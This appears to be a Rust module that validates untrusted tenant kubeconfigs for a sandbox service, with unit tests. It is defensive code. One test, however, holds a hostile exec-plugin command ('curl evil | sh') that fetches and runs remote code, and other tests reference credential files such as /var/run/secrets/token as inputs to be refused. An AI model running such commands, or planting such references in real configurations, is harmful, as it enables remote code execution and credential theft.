//! A tenant's kubeconfig: untrusted input that tells Kiln which cluster,
//! credentials and namespace to use for the tenant's sandboxes.
//!
//! [`parse`] is pure and refuses anything that would make the Kiln server read
//! its own files or run commands on the tenant's behalf (exec plugins, auth
//! providers, paths to certificates, keys or tokens), keeping only the current
//! context with its cluster and user. [`validate`] also connects: the API server
//! must answer, and a SelfSubjectAccessReview must allow what the driver does.
//!
//! Error messages say what is wrong and what to do, name entries by their names,
//! and never contain credentials (tokens, passwords, keys) from the input.

use std::fmt;
use std::time::Duration;

use k8s_openapi::api::authorization::v1::{
    ResourceAttributes, SelfSubjectAccessReview, SelfSubjectAccessReviewSpec,
};
use kube::api::{Api, PostParams};
use kube::config::{KubeConfigOptions, Kubeconfig};

/// Larger kubeconfigs are refused before parsing.
pub const MAX_KUBECONFIG_BYTES: usize = 256 * 1024;
/// Bound for opening a TCP (and TLS) connection to the tenant's API server.
pub const CONNECT_TIMEOUT: Duration = Duration::from_secs(10);
/// Bound for each request [`validate`] makes.
pub const VALIDATE_TIMEOUT: Duration = Duration::from_secs(15);

/// One permission the Kubernetes driver needs in the tenant's namespace.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Access {
    pub verb: &'static str,
    pub group: &'static str,
    pub resource: &'static str,
    pub subresource: &'static str,
}

impl fmt::Display for Access {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} {}", self.verb, self.resource)?;
        if !self.subresource.is_empty() {
            write!(f, "/{}", self.subresource)?;
        }
        if !self.group.is_empty() {
            write!(f, ".{}", self.group)?;
        }
        Ok(())
    }
}

/// What [`validate`] asks the cluster about, in order; the first denial is reported.
pub const REQUIRED_ACCESS: &[Access] = &[
    Access {
        verb: "create",
        group: "apps",
        resource: "statefulsets",
        subresource: "",
    },
    Access {
        verb: "create",
        group: "",
        resource: "pods",
        subresource: "exec",
    },
];

#[derive(Debug, thiserror::Error)]
pub enum KubeconfigError {
    #[error("the kubeconfig is empty; paste the whole file (kubectl config view --minify --raw)")]
    Empty,
    #[error(
        "the kubeconfig is {size} bytes; the limit is {limit} bytes (kubectl config view --minify --raw gives just the current context)"
    )]
    TooLarge { size: usize, limit: usize },
    #[error(
        "the kubeconfig is not valid kubeconfig YAML ({detail}); check the file is complete and unchanged"
    )]
    Yaml { detail: String },
    #[error("the kubeconfig has no current-context; set one with kubectl config use-context NAME")]
    NoCurrentContext,
    #[error(
        "the current-context {context} is not among the kubeconfig's contexts; add it or pick another with kubectl config use-context"
    )]
    ContextNotFound { context: String },
    #[error(
        "context {context} names cluster {cluster}, which the kubeconfig does not define; add the cluster entry"
    )]
    ClusterNotFound { context: String, cluster: String },
    #[error(
        "context {context} has no user; add a user with credentials (for example a service account token)"
    )]
    NoUser { context: String },
    #[error(
        "context {context} names user {user}, which the kubeconfig does not define; add the user entry"
    )]
    UserNotFound { context: String, user: String },
    #[error("cluster {cluster} has no server URL; add server: https://HOST:PORT")]
    NoServer { cluster: String },
    #[error("the server URL of cluster {cluster} is not usable: {problem}")]
    BadServer {
        cluster: String,
        problem: &'static str,
    },
    #[error(
        "user {user} gets its credentials from an exec plugin, which Kiln will not run; use a token instead (for example a service account token: kubectl create token NAME)"
    )]
    ExecPlugin { user: String },
    #[error(
        "user {user} uses the {provider} auth-provider, which Kiln does not support; use a token or client certificate data instead"
    )]
    AuthProvider { user: String, provider: String },
    #[error(
        "{entry} refers to a file ({field}), which Kiln cannot read; embed the contents instead ({hint}), e.g. with kubectl config view --minify --raw --flatten"
    )]
    FileReference {
        entry: String,
        field: String,
        hint: &'static str,
    },
    #[error(
        "cluster {cluster} sets proxy-url, which Kiln does not support; remove it so Kiln connects directly"
    )]
    Proxy { cluster: String },
    #[error("the namespace {namespace} is not a valid Kubernetes namespace name: {problem}")]
    BadNamespace {
        namespace: String,
        problem: &'static str,
    },
    #[error("the kubeconfig could not be turned into a client configuration: {detail}")]
    Config { detail: String },
    #[error(
        "the API server at {server} could not be reached: {reason}; check the server URL and that the cluster accepts connections from Kiln"
    )]
    Unreachable { server: String, reason: String },
    #[error(
        "the API server at {server} did not answer within {seconds} s; check the server URL and the cluster's health"
    )]
    Timeout { server: String, seconds: u64 },
    #[error(
        "the API server at {server} rejected the credentials (401 Unauthorized); the token or certificate may have expired; create a new one"
    )]
    Unauthorized { server: String },
    #[error("the API server at {server} refused the request ({code}): {message}")]
    Api {
        server: String,
        code: u16,
        message: String,
    },
    #[error(
        "the credentials may not {access} in namespace {namespace}: {reason}; grant it with a Role and RoleBinding in that namespace"
    )]
    Denied {
        namespace: String,
        access: String,
        reason: String,
    },
}

/// A tenant's kubeconfig that passed [`parse`]: only the current context, its
/// cluster and its user are kept.
#[derive(Clone)]
pub struct TenantKubeconfig {
    /// The context's namespace, or "default".
    pub namespace: String,
    /// The name of the current context.
    pub context: String,
    /// The API server URL (http or https, no credentials in it).
    pub server: String,
    kubeconfig: Kubeconfig,
}

impl fmt::Debug for TenantKubeconfig {
    // Not derived: the kubeconfig inside holds credentials.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("TenantKubeconfig")
            .field("namespace", &self.namespace)
            .field("context", &self.context)
            .field("server", &self.server)
            .finish_non_exhaustive()
    }
}

/// Checks a kubeconfig without touching the network or the file system.
pub fn parse(yaml: &str) -> Result<TenantKubeconfig, KubeconfigError> {
    if yaml.len() > MAX_KUBECONFIG_BYTES {
        return Err(KubeconfigError::TooLarge {
            size: yaml.len(),
            limit: MAX_KUBECONFIG_BYTES,
        });
    }
    if yaml.trim().is_empty() {
        return Err(KubeconfigError::Empty);
    }
    let mut kc: Kubeconfig = serde_yaml::from_str(yaml).map_err(|e| KubeconfigError::Yaml {
        detail: yaml_detail(&e),
    })?;

    let context_name = kc
        .current_context
        .clone()
        .filter(|c| !c.is_empty())
        .ok_or(KubeconfigError::NoCurrentContext)?;
    let context = kc
        .contexts
        .iter()
        .find(|c| c.name == context_name)
        .and_then(|c| c.context.clone())
        .ok_or_else(|| KubeconfigError::ContextNotFound {
            context: shown(&context_name),
        })?;
    let cluster = kc
        .clusters
        .iter()
        .find(|c| c.name == context.cluster)
        .and_then(|c| c.cluster.as_ref())
        .ok_or_else(|| KubeconfigError::ClusterNotFound {
            context: shown(&context_name),
            cluster: shown(&context.cluster),
        })?;
    let user_name = context
        .user
        .clone()
        .filter(|u| !u.is_empty())
        .ok_or_else(|| KubeconfigError::NoUser {
            context: shown(&context_name),
        })?;
    let user = kc
        .auth_infos
        .iter()
        .find(|u| u.name == user_name)
        .and_then(|u| u.auth_info.as_ref())
        .ok_or_else(|| KubeconfigError::UserNotFound {
            context: shown(&context_name),
            user: shown(&user_name),
        })?;

    // The cluster entry: only inline data, a direct connection, an http(s) URL.
    let cluster_entry = format!("cluster {}", shown(&context.cluster));
    if cluster.certificate_authority.is_some() {
        return Err(file_reference(
            &cluster_entry,
            "certificate-authority",
            "certificate-authority-data",
        ));
    }
    if let Some(key) = cluster.other.keys().find(|k| names_a_file(k)) {
        return Err(file_reference(
            &cluster_entry,
            key,
            "the matching *-data field",
        ));
    }
    if cluster.proxy_url.as_deref().is_some_and(|p| !p.is_empty()) {
        return Err(KubeconfigError::Proxy {
            cluster: shown(&context.cluster),
        });
    }
    let server = cluster
        .server
        .clone()
        .filter(|s| !s.trim().is_empty())
        .ok_or_else(|| KubeconfigError::NoServer {
            cluster: shown(&context.cluster),
        })?;
    check_server(&server).map_err(|problem| KubeconfigError::BadServer {
        cluster: shown(&context.cluster),
        problem,
    })?;

    // The user entry: credentials must be inline; nothing that runs or reads anything.
    let user_entry = format!("user {}", shown(&user_name));
    if user.exec.is_some() {
        return Err(KubeconfigError::ExecPlugin {
            user: shown(&user_name),
        });
    }
    if let Some(provider) = &user.auth_provider {
        return Err(KubeconfigError::AuthProvider {
            user: shown(&user_name),
            provider: shown(&provider.name),
        });
    }
    for (set, field, hint) in [
        (user.token_file.is_some(), "tokenFile", "token"),
        (
            user.client_certificate.is_some(),
            "client-certificate",
            "client-certificate-data",
        ),
        (user.client_key.is_some(), "client-key", "client-key-data"),
    ] {
        if set {
            return Err(file_reference(&user_entry, field, hint));
        }
    }
    if let Some(key) = user.other.keys().find(|k| names_a_file(k)) {
        return Err(file_reference(
            &user_entry,
            key,
            "the matching inline field",
        ));
    }

    let namespace = context
        .namespace
        .clone()
        .filter(|n| !n.is_empty())
        .unwrap_or_else(|| "default".to_string());
    check_namespace(&namespace).map_err(|problem| KubeconfigError::BadNamespace {
        namespace: shown(&namespace),
        problem,
    })?;

    // Keep just what is used, so nothing unchecked can take effect later.
    let cluster_name = context.cluster.clone();
    kc.contexts.retain(|c| c.name == context_name);
    kc.contexts.truncate(1);
    kc.clusters.retain(|c| c.name == cluster_name);
    kc.clusters.truncate(1);
    kc.auth_infos.retain(|u| u.name == user_name);
    kc.auth_infos.truncate(1);
    kc.preferences = None;
    kc.extensions = None;
    Ok(TenantKubeconfig {
        namespace,
        context: context_name,
        server,
        kubeconfig: kc,
    })
}

impl TenantKubeconfig {
    /// The checked kubeconfig (current context, its cluster and user only).
    pub fn kubeconfig(&self) -> &Kubeconfig {
        &self.kubeconfig
    }

    /// A client for the tenant's cluster, with the tenant's namespace as its default.
    ///
    /// Connecting is bounded by [`CONNECT_TIMEOUT`]. There is deliberately no
    /// read timeout: it would cut idle exec sessions and quiet watches (kube's
    /// default is none for that reason); bound single requests at the call site,
    /// as [`validate`] does. No proxy from the server's environment is used.
    pub async fn client(&self) -> Result<kube::Client, KubeconfigError> {
        let mut config = kube::Config::from_custom_kubeconfig(
            self.kubeconfig.clone(),
            &KubeConfigOptions::default(),
        )
        .await
        .map_err(|e| KubeconfigError::Config {
            detail: top_message(&e),
        })?;
        config.connect_timeout = Some(CONNECT_TIMEOUT);
        config.read_timeout = None;
        config.proxy_url = None;
        config.default_namespace = self.namespace.clone();
        kube::Client::try_from(config).map_err(|e| KubeconfigError::Config {
            detail: top_message(&e),
        })
    }

    /// The API server answers, and each of [`REQUIRED_ACCESS`] is allowed in the
    /// namespace. Each request is bounded by `limit`.
    pub async fn check_access(
        &self,
        client: &kube::Client,
        limit: Duration,
    ) -> Result<(), KubeconfigError> {
        self.bounded(limit, client.apiserver_version()).await?;
        let reviews: Api<SelfSubjectAccessReview> = Api::all(client.clone());
        for access in REQUIRED_ACCESS {
            let review = SelfSubjectAccessReview {
                spec: SelfSubjectAccessReviewSpec {
                    resource_attributes: Some(ResourceAttributes {
                        namespace: Some(self.namespace.clone()),
                        verb: Some(access.verb.to_string()),
                        group: Some(access.group.to_string()),
                        resource: Some(access.resource.to_string()),
                        subresource: Some(access.subresource.to_string()).filter(|s| !s.is_empty()),
                        ..Default::default()
                    }),
                    ..Default::default()
                },
                ..Default::default()
            };
            let answer = self
                .bounded(limit, reviews.create(&PostParams::default(), &review))
                .await?;
            let status = answer.status.unwrap_or_default();
            if !status.allowed {
                let reason = status
                    .reason
                    .or(status.evaluation_error)
                    .filter(|r| !r.is_empty())
                    .unwrap_or_else(|| "the cluster gave no reason".to_string());
                return Err(KubeconfigError::Denied {
                    namespace: self.namespace.clone(),
                    access: access.to_string(),
                    reason: clean(&reason),
                });
            }
        }
        Ok(())
    }

    async fn bounded<T>(
        &self,
        limit: Duration,
        request: impl Future<Output = Result<T, kube::Error>>,
    ) -> Result<T, KubeconfigError> {
        match tokio::time::timeout(limit, request).await {
            Err(_) => Err(KubeconfigError::Timeout {
                server: self.server.clone(),
                seconds: limit.as_secs().max(1),
            }),
            Ok(Ok(value)) => Ok(value),
            Ok(Err(kube::Error::Api(status))) if status.code == 401 => {
                Err(KubeconfigError::Unauthorized {
                    server: self.server.clone(),
                })
            }
            Ok(Err(kube::Error::Api(status))) => Err(KubeconfigError::Api {
                server: self.server.clone(),
                code: status.code,
                message: clean(&status.message),
            }),
            Ok(Err(other)) => Err(KubeconfigError::Unreachable {
                server: self.server.clone(),
                reason: error_chain(&other),
            }),
        }
    }
}

/// [`parse`], then a client, then [`TenantKubeconfig::check_access`] with
/// [`VALIDATE_TIMEOUT`] per request.
pub async fn validate(yaml: &str) -> Result<TenantKubeconfig, KubeconfigError> {
    validate_within(yaml, VALIDATE_TIMEOUT).await
}

/// [`validate`] with another bound per request.
pub async fn validate_within(
    yaml: &str,
    limit: Duration,
) -> Result<TenantKubeconfig, KubeconfigError> {
    let tenant = parse(yaml)?;
    let client = tenant.client().await?;
    tenant.check_access(&client, limit).await?;
    Ok(tenant)
}

/// The client for Kiln's own cluster: `KUBECONFIG` (or ~/.kube/config) when
/// set, else the in-cluster service account. This is the operator's trusted
/// configuration, so exec plugins and files are fine here.
pub async fn server_client() -> Result<kube::Client, kube::Error> {
    kube::Client::try_default().await
}

fn file_reference(entry: &str, field: &str, hint: &'static str) -> KubeconfigError {
    KubeconfigError::FileReference {
        entry: entry.to_string(),
        field: shown(field),
        hint,
    }
}

/// Unknown keys that name files (e.g. `token-file`): kube ignores them, but a
/// tenant who wrote one expects it to be used, so say why it is not.
fn names_a_file(key: &str) -> bool {
    key.to_ascii_lowercase().contains("file")
}

fn check_server(server: &str) -> Result<(), &'static str> {
    if server.chars().any(|c| c.is_whitespace() || c.is_control()) {
        return Err("it contains spaces or control characters");
    }
    let lower = server.to_ascii_lowercase();
    let rest = lower
        .strip_prefix("https://")
        .or_else(|| lower.strip_prefix("http://"))
        .ok_or("it must start with https:// (or http://)")?;
    let authority = rest.split('/').next().unwrap_or_default();
    if authority.contains('@') {
        return Err(
            "it must not contain a user name or password; put credentials in the user entry",
        );
    }
    if rest.contains(['?', '#']) {
        return Err("it must not have a query string or fragment");
    }
    if authority.is_empty() || authority.starts_with(':') {
        return Err("it has no host name");
    }
    Ok(())
}

/// DNS-1123 label: 1–63 of a-z, 0-9 and '-', starting and ending with a letter or digit.
fn check_namespace(ns: &str) -> Result<(), &'static str> {
    if ns.len() > 63 {
        return Err("it is longer than 63 characters");
    }
    if !ns
        .bytes()
        .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
    {
        return Err("only lowercase letters, digits and '-' are allowed");
    }
    if ns.starts_with('-') || ns.ends_with('-') {
        return Err("it must start and end with a letter or digit");
    }
    Ok(())
}

/// A name from the input, quoted and escaped (it is shown on a terminal), and cut short.
fn shown(name: &str) -> String {
    let cut: String = name.chars().take(64).collect();
    let more = if cut.len() < name.len() { "…" } else { "" };
    format!("{cut:?}{more}")
}

/// Text from the cluster, safe to show on a terminal, and cut short.
fn clean(text: &str) -> String {
    text.chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .take(300)
        .collect()
}

/// serde_yaml's message without any quoted values, which may come from the
/// input (a token in the wrong place would otherwise be echoed).
fn yaml_detail(e: &serde_yaml::Error) -> String {
    let message = e.to_string();
    let mut out = String::new();
    let mut quote = None;
    for c in message.chars() {
        match quote {
            Some(q) if c == q => {
                out.push('…');
                out.push(c);
                quote = None;
            }
            Some(_) => {}
            None if c == '"' || c == '`' => {
                out.push(c);
                quote = Some(c);
            }
            None => out.push(c),
        }
    }
    // Field names in backticks are safe and helpful: "missing field `cluster`".
    if message.starts_with("missing field") || message.contains(": missing field") {
        return clean(&message);
    }
    clean(&out)
}

/// The outermost message of an error, without its sources (which may quote data).
fn top_message(e: &dyn std::error::Error) -> String {
    let full = e.to_string();
    let top = match e.source() {
        Some(source) => full
            .strip_suffix(&source.to_string())
            .map(|s| s.trim_end_matches([':', ' ']).to_string())
            .unwrap_or_else(|| full.split(": ").next().unwrap_or_default().to_string()),
        None => full,
    };
    clean(&top)
}

/// An error and its sources, for network failures ("connection refused", DNS, TLS).
fn error_chain(e: &dyn std::error::Error) -> String {
    let mut parts = vec![e.to_string()];
    let mut source = e.source();
    while let Some(s) = source {
        let text = s.to_string();
        if !parts.iter().any(|p| p.contains(&text)) {
            parts.push(text);
        }
        source = s.source();
    }
    clean(&parts.join(": "))
}

#[cfg(test)]
mod tests {
    use super::*;

    const TOKEN: &str = "sEcReT-T0KEN-do-not-echo";

    fn config(cluster: &str, user: &str, context_extra: &str) -> String {
        format!(
            "apiVersion: v1
kind: Config
clusters:
- name: prod
  cluster:
{cluster}
users:
- name: dev
  user:
{user}
contexts:
- name: main
  context:
    cluster: prod
    user: dev
{context_extra}
current-context: main
"
        )
    }

    fn good_cluster() -> &'static str {
        "    server: https://k8s.example.com:6443\n    certificate-authority-data: LS0tLS1CRUdJTg=="
    }

    fn token_user() -> String {
        format!("    token: {TOKEN}")
    }

    /// Parses and returns the error, checking the token never shows up in it.
    fn refused(yaml: &str) -> KubeconfigError {
        let err = parse(yaml).expect_err("should be refused");
        let shown = format!("{err} {err:?}");
        assert!(!shown.contains(TOKEN), "the token leaked: {shown}");
        assert!(
            !shown.contains("T0KEN"),
            "part of the token leaked: {shown}"
        );
        err
    }

    #[test]
    fn a_good_kubeconfig_keeps_only_the_current_context() {
        // Another context whose user has an exec plugin does not matter: it is not used.
        let yaml = format!(
            "apiVersion: v1
kind: Config
clusters:
- name: prod
  cluster:
    server: https://k8s.example.com:6443
    certificate-authority-data: LS0tLS1CRUdJTg==
- name: gke
  cluster:
    server: https://gke.example.com
users:
- name: plugin
  user:
    exec:
      apiVersion: client.authentication.k8s.io/v1
      command: gke-gcloud-auth-plugin
- name: dev
  user:
    token: {TOKEN}
contexts:
- name: gke
  context: {{cluster: gke, user: plugin}}
- name: main
  context: {{cluster: prod, user: dev, namespace: team-a}}
current-context: main
"
        );
        let t = parse(&yaml).unwrap();
        assert_eq!(t.namespace, "team-a");
        assert_eq!(t.context, "main");
        assert_eq!(t.server, "https://k8s.example.com:6443");
        let kc = t.kubeconfig();
        assert_eq!(kc.contexts.len(), 1);
        assert_eq!(kc.clusters.len(), 1);
        assert_eq!(kc.auth_infos.len(), 1);
        assert_eq!(kc.auth_infos[0].name, "dev");
        assert!(!format!("{t:?}").contains(TOKEN));
    }

    #[test]
    fn namespace_defaults_to_default() {
        let t = parse(&config(good_cluster(), &token_user(), "")).unwrap();
        assert_eq!(t.namespace, "default");
        let t = parse(&config(
            good_cluster(),
            &token_user(),
            "    namespace: \"\"",
        ))
        .unwrap();
        assert_eq!(t.namespace, "default");
    }

    #[test]
    fn plain_http_servers_and_paths_are_accepted() {
        let t = parse(&config(
            "    server: http://127.0.0.1:8080/k8s/clusters/c-1",
            &token_user(),
            "",
        ))
        .unwrap();
        assert_eq!(t.server, "http://127.0.0.1:8080/k8s/clusters/c-1");
    }

    #[test]
    fn malformed_yaml_is_refused_without_echoing_values() {
        assert!(matches!(
            refused("clusters: [\n  - {"),
            KubeconfigError::Yaml { .. }
        ));
        // A token where a list belongs: serde would quote it in its message.
        let err = refused(&format!("users: {TOKEN}\n"));
        assert!(matches!(err, KubeconfigError::Yaml { .. }), "{err:?}");
        let err = refused(&format!(
            "contexts:\n- name: main\n  context: {{cluster: 1, user: [{TOKEN}]}}\n"
        ));
        assert!(matches!(err, KubeconfigError::Yaml { .. }), "{err:?}");
        assert!(matches!(refused("  \n"), KubeconfigError::Empty));
    }

    #[test]
    fn missing_or_dangling_references_are_refused() {
        let yaml = config(good_cluster(), &token_user(), "");
        assert!(matches!(
            refused(&yaml.replace("current-context: main\n", "")),
            KubeconfigError::NoCurrentContext
        ));
        assert!(matches!(
            refused(&yaml.replace("current-context: main", "current-context: gone")),
            KubeconfigError::ContextNotFound { .. }
        ));
        assert!(matches!(
            refused(&yaml.replace("cluster: prod", "cluster: gone")),
            KubeconfigError::ClusterNotFound { .. }
        ));
        assert!(matches!(
            refused(&yaml.replace("    user: dev\n", "")),
            KubeconfigError::NoUser { .. }
        ));
        assert!(matches!(
            refused(&yaml.replace("user: dev", "user: gone")),
            KubeconfigError::UserNotFound { .. }
        ));
        let err = refused(&config(
            "    insecure-skip-tls-verify: true",
            &token_user(),
            "",
        ));
        assert!(matches!(err, KubeconfigError::NoServer { .. }), "{err:?}");
    }

    #[test]
    fn bad_server_urls_are_refused() {
        for server in [
            "ftp://k8s.example.com",
            "k8s.example.com:6443",
            "https://",
            "https://admin:hunter2@k8s.example.com",
            "https://k8s.example.com/?token=abc",
        ] {
            let err = refused(&config(&format!("    server: {server}"), &token_user(), ""));
            assert!(
                matches!(err, KubeconfigError::BadServer { .. }),
                "{server}: {err:?}"
            );
            assert!(!err.to_string().contains("hunter2"));
        }
    }

    #[test]
    fn exec_plugins_and_auth_providers_are_refused() {
        let exec = format!(
            "{}\n    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/sh\n      args: [-c, 'curl evil | sh']",
            token_user()
        );
        let err = refused(&config(good_cluster(), &exec, ""));
        assert!(matches!(err, KubeconfigError::ExecPlugin { .. }), "{err:?}");
        assert!(err.to_string().contains("exec plugin"));

        let provider = format!(
            "    auth-provider:\n      name: oidc\n      config:\n        id-token: {TOKEN}\n        refresh-token: {TOKEN}"
        );
        let err = refused(&config(good_cluster(), &provider, ""));
        assert!(
            matches!(err, KubeconfigError::AuthProvider { ref provider, .. } if provider.contains("oidc")),
            "{err:?}"
        );
    }

    #[test]
    fn file_references_are_refused() {
        let cases = [
            (
                "    server: https://k8s.example.com\n    certificate-authority: /etc/kubernetes/ca.crt".to_string(),
                token_user(),
                "certificate-authority",
            ),
            (good_cluster().to_string(), "    tokenFile: /var/run/secrets/token".to_string(), "tokenFile"),
            (good_cluster().to_string(), "    token-file: /var/run/secrets/token".to_string(), "token-file"),
            (
                good_cluster().to_string(),
                "    client-certificate: /root/.kube/client.crt\n    client-key-data: c2VjcmV0".to_string(),
                "client-certificate",
            ),
            (
                good_cluster().to_string(),
                "    client-certificate-data: Y2VydA==\n    client-key: /root/.kube/client.key".to_string(),
                "client-key",
            ),
        ];
        for (cluster, user, field) in cases {
            let err = refused(&config(&cluster, &user, ""));
            match &err {
                KubeconfigError::FileReference { field: f, .. } => {
                    assert!(f.contains(field), "{err}")
                }
                other => panic!("{field}: expected a file reference error, got {other:?}"),
            }
            assert!(!err.to_string().contains("c2VjcmV0"));
        }
    }

    #[test]
    fn proxies_are_refused() {
        let cluster = format!("{}\n    proxy-url: socks5://10.0.0.1:1080", good_cluster());
        assert!(matches!(
            refused(&config(&cluster, &token_user(), "")),
            KubeconfigError::Proxy { .. }
        ));
    }

    #[test]
    fn bad_namespaces_are_refused() {
        for ns in ["Team-A", "-team", "team-", "team_a", "a.b", &"x".repeat(64)] {
            let err = refused(&config(
                good_cluster(),
                &token_user(),
                &format!("    namespace: \"{ns}\""),
            ));
            assert!(
                matches!(err, KubeconfigError::BadNamespace { .. }),
                "{ns}: {err:?}"
            );
        }
        let t = parse(&config(
            good_cluster(),
            &token_user(),
            &format!("    namespace: {}", "a".repeat(63)),
        ))
        .unwrap();
        assert_eq!(t.namespace.len(), 63);
    }

    #[test]
    fn oversize_input_is_refused_before_parsing() {
        let yaml = format!(
            "{}\n#{}\n",
            config(good_cluster(), &token_user(), ""),
            "x".repeat(MAX_KUBECONFIG_BYTES)
        );
        assert!(matches!(refused(&yaml), KubeconfigError::TooLarge { .. }));
    }

    #[test]
    fn names_are_escaped_in_messages() {
        let yaml = config(good_cluster(), &token_user(), "")
            .replace("current-context: main", "current-context: \"\\e[31mred\"");
        let err = refused(&yaml);
        assert!(!err.to_string().contains('\u{1b}'), "{err}");
    }
}
